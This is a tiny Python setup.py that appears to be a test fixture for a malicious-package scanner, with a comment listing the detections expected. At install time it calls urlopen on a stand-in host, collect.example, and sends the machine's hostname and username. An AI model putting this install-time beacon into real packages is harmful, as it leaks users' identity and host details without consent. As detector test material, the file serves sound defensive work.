import getpass
import platform
import urllib.request
from setuptools import setup

urllib.request.urlopen(f"https://collect.example/p?h={platform.node()}&u={getpass.getuser()}") # expect: data-exfiltration/host-beacon, malicious-command/setup-py-code
setup(name="setup", version="1.0")
